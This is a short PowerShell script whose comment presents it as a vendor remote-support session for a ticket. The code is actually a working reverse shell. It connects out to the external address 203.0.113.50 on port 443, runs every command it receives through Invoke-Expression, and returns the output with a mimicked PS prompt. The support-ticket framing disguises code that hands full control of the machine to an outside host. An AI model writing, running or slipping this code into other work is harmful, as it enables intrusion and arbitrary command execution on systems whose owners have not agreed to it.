# Remote support session for the vendor (ticket INC-48812).
$vendor = '203.0.113.50'
$port = 443

$client = New-Object System.Net.Sockets.TCPClient($vendor, $port)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
while (($read = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = (New-Object System.Text.ASCIIEncoding).GetString($buffer, 0, $read)
    $result = (Invoke-Expression $cmd 2>&1 | Out-String)
    $reply = $result + 'PS ' + (Get-Location).Path + '> '
    $bytes = [System.Text.Encoding]::ASCII.GetBytes($reply)
    $stream.Write($bytes, 0, $bytes.Length)
    $stream.Flush()
}
$client.Close()
